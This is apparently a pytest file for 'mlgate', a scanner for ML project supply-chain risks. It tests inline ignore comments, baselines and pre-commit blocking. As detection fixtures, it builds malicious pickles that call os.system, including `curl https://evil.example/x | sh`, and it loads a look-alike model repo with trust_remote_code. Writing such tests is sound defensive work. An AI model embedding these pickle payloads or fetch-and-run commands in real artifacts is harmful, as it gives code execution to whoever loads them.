"""Inline ignore comments and the baseline, through the real CLI (and a real pre-commit run):
what each comment covers, what is reported about comments that cannot work, the counts of hidden
findings, the listing of unused comments, and baseline fingerprints of model files."""

from __future__ import annotations

import json
import struct

import pytest

from conftest import write_tree
from mlgate import engine, plugins
from mlgate.cli import main, main_pins
from mlgate.config import load_config
from mlgate.findings import assign_fingerprints
from mlgate.plugins import load_hooks

SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture
def project(tmp_path, monkeypatch):
    """`project(files)` writes the files in a fresh folder that becomes the current directory."""
    monkeypatch.chdir(tmp_path)

    def write(files: dict[str, str | bytes]) -> None:
        write_tree(tmp_path, files)

    return write


def check_json(capsys, *args: str) -> tuple[int, dict]:
    code = main(["check", "--format", "json", *args])
    return code, json.loads(capsys.readouterr().out)


def hits(document: dict) -> list[tuple[str, str, int | None]]:
    return [(f["rule"], f["path"], f["line"]) for f in document["findings"]]


def errors(document: dict) -> list[tuple[str, str, str]]:
    return [(e["path"], e["message"], e.get("kind", "error")) for e in document["errors"]]


# --- what a comment covers ---------------------------------------------------------------------

HUB_TRAILING = (
    "from transformers import AutoModel\n"
    'internal = AutoModel.from_pretrained("our-org/internal")  # mlgate: ignore[hub]\n'
    'model = AutoModel.from_pretrained("meta-IIama/Llama-2-7b-hf", trust_remote_code=True)\n'
)


def test_a_trailing_hub_comment_hides_its_own_line_and_not_the_next(project, capsys):
    project({"train.py": HUB_TRAILING})
    code, document = check_json(capsys, "train.py")
    assert code == 1
    assert hits(document) == [("HUB006", "train.py", 3), ("HUB002", "train.py", 3)]  # HUB002 is the unpinned load
    assert document["hidden_inline"] == 1  # line 2's HUB001


WORKFLOW = """on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4  # mlgate: ignore[PIN020]
      - uses: tj-actions/changed-files@v44
"""


def test_a_trailing_action_comment_does_not_hide_the_next_step(project, capsys):
    project({".github/workflows/ci.yml": WORKFLOW})
    code, document = check_json(capsys, "--select", "PIN020", ".")
    assert code == 1
    assert hits(document) == [("PIN020", ".github/workflows/ci.yml", 7)]
    assert "tj-actions/changed-files" in document["findings"][0]["message"]
    assert document["hidden_inline"] == 1


def test_a_comment_alone_on_its_line_hides_the_next_line_only(project, capsys):
    project(
        {
            "train.py": "from transformers import AutoModel\n"
            "# mlgate: ignore[HUB001]  reviewed: our mirror\n"
            'a = AutoModel.from_pretrained("acme/first")\n'
            'b = AutoModel.from_pretrained("acme/second")\n'
            "# mlgate: ignore[HUB001]\n"
            "\n"
            'c = AutoModel.from_pretrained("acme/third")\n'
        }
    )
    code, document = check_json(capsys, "--select", "hub", "train.py")
    # Line 3 is hidden; line 4 is not (only the next line), nor line 7 (a blank line is the next line).
    assert hits(document) == [("HUB001", "train.py", 4), ("HUB001", "train.py", 7)]
    assert document["hidden_inline"] == 1


def test_a_requirements_option_line_is_code_not_a_comment(project, capsys):
    # `--index-url ...  # mlgate: ignore[...]` starts with `--`, which opens a comment only when
    # followed by a space: the comment trails code, so the next line is not covered.
    project({"requirements.txt": "--index-url https://pypi.org/simple  # mlgate: ignore[PIN001]\ntorch>=2.0\n"})
    code, document = check_json(capsys, "--select", "PIN001", "requirements.txt")
    assert hits(document) == [("PIN001", "requirements.txt", 2)]
    assert document["hidden_inline"] == 0


def test_a_comment_alone_in_a_notebook_cell_hides_the_next_cell_line(project, capsys):
    cell = [
        "from transformers import AutoModel\n",
        "# mlgate: ignore[HUB001]\n",
        "a = AutoModel.from_pretrained('acme/first')\n",
        "b = AutoModel.from_pretrained('acme/second')  # mlgate: ignore[HUB001]\n",
        "c = AutoModel.from_pretrained('acme/third')\n",
    ]
    notebook = {"cells": [{"cell_type": "code", "source": cell, "metadata": {}, "outputs": []}], "nbformat": 4, "nbformat_minor": 5}
    project({"demo.ipynb": json.dumps(notebook, indent=1)})
    code, document = check_json(capsys, "--select", "hub", "demo.ipynb")
    # The .ipynb lines: 1 `{`, 2 `"cells": [`, 3 `{`, 4 `"cell_type"...`, 5 `"source": [`, then the cell lines from 6.
    assert hits(document) == [("HUB001", "demo.ipynb", 10)]
    assert document["hidden_inline"] == 2


@pytest.fixture
def demo(project, monkeypatch):
    """Only the demo hook (tests/demo_hook.py: DEMO001 on every line with BAD in a .txt file)."""
    monkeypatch.setattr(plugins, "HOOK_MODULES", {"demo": "demo_hook"})
    return project


@pytest.mark.parametrize(
    "trailing, alone",
    [
        ("BAD  # mlgate: ignore[DEMO001]", "# mlgate: ignore[DEMO001]"),
        ("BAD  // mlgate: ignore[DEMO001]", "// mlgate: ignore[DEMO001]"),
        ("BAD  <!-- mlgate: ignore[DEMO001] -->", "<!-- mlgate: ignore[DEMO001] -->"),
        ("BAD  /* mlgate: ignore[DEMO001] */", "/* mlgate: ignore[DEMO001] */"),
        ("BAD  {# mlgate: ignore[DEMO001] #}", "{# mlgate: ignore[DEMO001] #}"),
        ("BAD  {{/* mlgate: ignore[DEMO001] */}}", "{{- /* mlgate: ignore[DEMO001] */ -}}"),
    ],
)
def test_every_comment_syntax_covers_its_line_when_trailing_and_the_next_when_alone(demo, capsys, trailing, alone):
    demo({"a.txt": f"{trailing}\nBAD\n{alone}\nBAD\nBAD\n", "b.txt": "-- mlgate: ignore[DEMO001]\nBAD\n; mlgate: ignore[DEMO001]\nBAD\n"})
    code, document = check_json(capsys, ".")
    assert hits(document) == [("DEMO001", "a.txt", 2), ("DEMO001", "a.txt", 5)]
    assert document["hidden_inline"] == 4


def test_a_comment_after_text_on_a_comment_line_covers_that_line_only(demo, capsys):
    # A comment line can hold findings of its own (a Dockerfile `# syntax=` directive): an ignore
    # after that text trails it, so it covers that line and not the one below.
    demo({"a.txt": "# BAD directive  # mlgate: ignore[DEMO001]\nBAD\n"})
    code, document = check_json(capsys, ".")
    assert hits(document) == [("DEMO001", "a.txt", 2)]
    assert document["hidden_inline"] == 1


def test_the_marker_outside_a_comment_hides_nothing(demo, capsys):
    demo({"a.txt": 'BAD = "mlgate: ignore[DEMO001]"\n'})
    code, document = check_json(capsys, ".")
    assert hits(document) == [("DEMO001", "a.txt", 1)]
    assert (document["hidden_inline"], document["errors"]) == (0, [])


# --- comments that cannot work are reported ----------------------------------------------------


def test_an_unknown_code_is_reported_and_the_finding_stays(project, capsys):
    project({"requirements.txt": "torch>=2.0  # mlgate: ignore[PIN999]\nnumpy>=1  # mlgate: ignore[PIN001, pin]\n"})
    code, document = check_json(capsys, "--select", "PIN001", "requirements.txt")
    assert code == 1
    assert hits(document) == [("PIN001", "requirements.txt", 1)]
    assert errors(document) == [
        (
            "requirements.txt",
            "line 1: `mlgate: ignore[...]` names no rule or hook mlgate knows: PIN999 (see `mlgate rules`); nothing is hidden for it",
            "invalid",
        ),
        (
            "requirements.txt",
            "line 2: `mlgate: ignore[...]` names no rule or hook mlgate knows: pin (see `mlgate rules`); nothing is hidden for it",
            "invalid",
        ),
    ]


def test_a_bare_ignore_is_reported_and_hides_nothing(project, capsys):
    project({"requirements.txt": "torch>=2.0  # mlgate: ignore\n# mlgate: ignore[]\nnumpy>=1\n"})
    code, document = check_json(capsys, "--select", "PIN001", "requirements.txt")
    assert hits(document) == [("PIN001", "requirements.txt", 1), ("PIN001", "requirements.txt", 3)]
    message = "`mlgate: ignore` without codes hides nothing: write `mlgate: ignore[CODE]`"
    assert errors(document) == [
        ("requirements.txt", f"line 1: {message}", "invalid"),
        ("requirements.txt", f"line 2: {message}", "invalid"),
    ]


def test_a_reported_comment_fails_the_run_only_with_strict_errors(project, capsys):
    project({"requirements.txt": "torch==2.1.0  # mlgate: ignore[PIN999]\n"})
    code, document = check_json(capsys, "--select", "pins", "requirements.txt")
    assert (code, hits(document), [e[0] for e in errors(document)]) == (0, [], ["requirements.txt"])
    code, document = check_json(capsys, "--select", "pins", "--strict-errors", "requirements.txt")
    assert code == 1


def test_a_code_of_a_hook_the_run_did_not_load_is_known(project, capsys):
    # `mlgate-pins` imports only the pins hook; a Dockerfile also read by services says SVC001.
    project({"Dockerfile": "FROM python:3.12@sha256:" + "a" * 64 + "\nEXPOSE 8265  # mlgate: ignore[SVC001, services]\n"})
    code = main_pins(["--format", "json", "Dockerfile"])
    document = json.loads(capsys.readouterr().out)
    assert (code, document["findings"], document["errors"]) == (0, [], [])


# --- counts of what was hidden ----------------------------------------------------------------


def test_json_counts_findings_hidden_inline_and_by_the_baseline(project, capsys):
    project({"requirements.txt": "torch>=2.0  # mlgate: ignore[PIN001]\nnumpy>=1\nscipy>=1\n"})
    assert main(["baseline", "--select", "PIN001", "--output", "base.json", "requirements.txt"]) == 0
    capsys.readouterr()
    with open("requirements.txt", "a", encoding="utf-8") as handle:
        handle.write("pandas>=2\n")
    code, document = check_json(capsys, "--select", "PIN001", "--baseline", "base.json", "requirements.txt")
    assert hits(document) == [("PIN001", "requirements.txt", 4)]
    assert (document["hidden_inline"], document["hidden_by_baseline"]) == (1, 2)


# --- unused ignore comments -------------------------------------------------------------------


UNUSED = {
    "requirements.txt": (
        "torch>=2.0  # mlgate: ignore[PIN001]\n"  # used
        "numpy==1.26.4  # mlgate: ignore[PIN001]\n"  # unused: the line is pinned
        "scipy>=1  # mlgate: ignore[PIN001, PIN002]\n"  # PIN001 used, PIN002 not
        "pandas==2.2.2  # mlgate: ignore[PIN030]\n"  # reported only --online: not checked offline
        "# mlgate: ignore[HUB001]\n"  # another hook's rule, run too: unused
        "requests==2.32.4\n"
    )
}


def test_unused_ignores_are_listed_with_path_line_and_codes(project, capsys):
    project(UNUSED)
    code, document = check_json(capsys, "--show-unused-ignores", "requirements.txt")
    assert document["unused_ignores"] == [
        {"path": "requirements.txt", "line": 2, "codes": ["PIN001"]},
        {"path": "requirements.txt", "line": 3, "codes": ["PIN002"]},
        {"path": "requirements.txt", "line": 5, "codes": ["HUB001"]},
    ]
    assert document["hidden_inline"] == 2


def test_unused_ignores_leave_out_rules_the_run_did_not_check(project, capsys):
    project(UNUSED)
    code, document = check_json(capsys, "--show-unused-ignores", "--select", "pins", "--ignore", "PIN002", "requirements.txt")
    assert document["unused_ignores"] == [{"path": "requirements.txt", "line": 2, "codes": ["PIN001"]}]


def test_unused_ignores_are_listed_only_when_asked(project, capsys):
    project(UNUSED)
    assert check_json(capsys, "requirements.txt")[1]["unused_ignores"] == []
    project({".mlgate.yaml": "report-unused-ignores: true\n"})
    listed = check_json(capsys, "requirements.txt")[1]["unused_ignores"]
    assert [(entry["path"], entry["line"]) for entry in listed] == [
        ("requirements.txt", 2),
        ("requirements.txt", 3),
        ("requirements.txt", 5),
    ]


def test_report_unused_ignores_must_be_a_boolean(project, capsys):
    project({".mlgate.yaml": "report-unused-ignores: yes please\n", "requirements.txt": "torch==2.1.0\n"})
    assert main(["check", "requirements.txt"]) == 2
    assert ".mlgate.yaml: key 'report-unused-ignores': expected true or false" in capsys.readouterr().err


# --- baseline fingerprints of model files ------------------------------------------------------


def system_call(command: str) -> bytes:
    """A protocol-2 pickle calling os.system(command), written opcode by opcode (never loaded):
    PROTO 2, GLOBAL posix.system, BINUNICODE command, TUPLE1, REDUCE, STOP."""
    argument = command.encode()
    return b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(argument)) + argument + b"\x85R."


def test_a_baselined_pickle_whose_payload_is_swapped_is_shown_again(project, capsys):
    project({"model.pkl": system_call("echo accepted"), "requirements.txt": "torch>=2.0\n"})
    assert main(["baseline", "--output", "base.json", "."]) == 0
    capsys.readouterr()
    code, document = check_json(capsys, "--baseline", "base.json", ".")
    assert (code, hits(document), document["hidden_by_baseline"]) == (0, [], 2)

    project({"model.pkl": system_call("curl https://evil.example/x | sh")})  # the same callable
    code, document = check_json(capsys, "--baseline", "base.json", ".")
    assert code == 1
    assert hits(document) == [("MOD001", "model.pkl", None)]
    assert "posix.system" in document["findings"][0]["message"]
    assert document["hidden_by_baseline"] == 1  # the text finding keeps its fingerprint


def test_a_text_finding_keeps_its_fingerprint_when_the_file_changes_elsewhere(project, capsys):
    project({"requirements.txt": "torch>=2.0\n"})
    before = check_json(capsys, "requirements.txt")[1]["findings"][0]["fingerprint"]
    project({"requirements.txt": "# our pins\nnumpy==1.26.4\ntorch>=2.0\n"})
    after = check_json(capsys, "requirements.txt")[1]["findings"][0]
    assert (after["rule"], after["line"], after["fingerprint"]) == ("PIN001", 3, before)


def test_a_version_1_baseline_still_loads_and_says_why_a_model_finding_is_back(project, capsys, tmp_path):
    project({"model.pkl": system_call("echo accepted"), "requirements.txt": "torch>=2.0\n"})
    hooks = load_hooks()
    result = engine.scan(["."], hooks, load_config(None, hooks, start=tmp_path))
    old_ids = assign_fingerprints(result.findings)  # without the file's digest, as version 1 wrote them
    entries = [{"fingerprint": f.fingerprint, "rule": f.rule.code, "path": f.path, "message": f.message} for f in old_ids]
    (tmp_path / "v1.json").write_text(json.dumps({"version": 1, "findings": entries}), encoding="utf-8")

    code, document = check_json(capsys, "--baseline", "v1.json", ".")
    assert hits(document) == [("MOD001", "model.pkl", None)]
    assert document["findings"][0]["message"].endswith(
        "(a baseline from before mlgate fingerprinted model files by their sha256 lists it: review the file, then run `mlgate baseline` again)"
    )
    assert document["hidden_by_baseline"] == 1
    assert main(["baseline", "--output", "v2.json", "."]) == 0
    assert json.loads((tmp_path / "v2.json").read_text())["version"] == 2
    capsys.readouterr()
    assert check_json(capsys, "--baseline", "v2.json", ".")[1]["findings"] == []


# --- a real pre-commit run --------------------------------------------------------------------


def _json_of(output: str) -> dict:
    """The JSON report in pre-commit's output (after the hook's status lines)."""
    document, _ = json.JSONDecoder().raw_decode(output[output.index("{\n") :])
    return document


def test_pre_commit_shows_the_line_after_a_trailing_ignore_and_reports_a_bad_comment(tmp_path, precommit_hooks):
    from precommit_env import git, init_repo

    project = tmp_path / "project"
    init_repo(project)
    config = precommit_hooks.config(["mlgate-pins", "mlgate-hub"], args={"mlgate-pins": ["--format=json"], "mlgate-hub": ["--format=json"]})
    write_tree(
        project,
        {
            ".pre-commit-config.yaml": config,
            ".github/workflows/ci.yml": WORKFLOW,
            "train.py": HUB_TRAILING + "# mlgate: ignore[HUB999]\n",
        },
    )
    git(project, "add", "-A")
    pins = precommit_hooks.pre_commit(project, "run", "mlgate-pins", "--files", ".github/workflows/ci.yml")
    assert pins.returncode == 1, pins.stdout + pins.stderr
    document = _json_of(pins.stdout)
    assert hits(document) == [("PIN020", ".github/workflows/ci.yml", 7)]
    assert document["hidden_inline"] == 1

    hub = precommit_hooks.pre_commit(project, "run", "mlgate-hub", "--files", "train.py")
    assert hub.returncode == 1, hub.stdout + hub.stderr
    document = _json_of(hub.stdout)
    assert hits(document) == [("HUB006", "train.py", 3), ("HUB002", "train.py", 3)]  # HUB002 is the unpinned load
    assert errors(document) == [
        (
            "train.py",
            "line 4: `mlgate: ignore[...]` names no rule or hook mlgate knows: HUB999 (see `mlgate rules`); nothing is hidden for it",
            "invalid",
        )
    ]


def test_pre_commit_blocks_a_swapped_pickle_its_baseline_accepted(tmp_path, precommit_hooks, monkeypatch):
    from precommit_env import git, init_repo

    project = tmp_path / "project"
    init_repo(project)
    write_tree(
        project,
        {
            ".pre-commit-config.yaml": precommit_hooks.config(["mlgate-models"], args={"mlgate-models": ["--format=json"]}),
            ".mlgate.yaml": "baseline: .mlgate-baseline.json\n",
            "weights/model.pkl": system_call("echo accepted"),
        },
    )
    monkeypatch.chdir(project)
    assert main(["baseline", "--select", "models", "--output", ".mlgate-baseline.json", "."]) == 0
    git(project, "add", "-A")
    accepted = precommit_hooks.pre_commit(project, "run", "mlgate-models", "--verbose", "--files", "weights/model.pkl")
    assert accepted.returncode == 0, accepted.stdout + accepted.stderr
    document = _json_of(accepted.stdout)
    assert (document["findings"], document["hidden_by_baseline"]) == ([], 1)

    (project / "weights" / "model.pkl").write_bytes(system_call("curl https://evil.example/x | sh"))
    git(project, "add", "-A")
    swapped = precommit_hooks.pre_commit(project, "run", "mlgate-models", "--files", "weights/model.pkl")
    assert swapped.returncode == 1, swapped.stdout + swapped.stderr
    document = _json_of(swapped.stdout)
    assert (hits(document), document["hidden_by_baseline"]) == ([("MOD001", "weights/model.pkl", None)], 0)
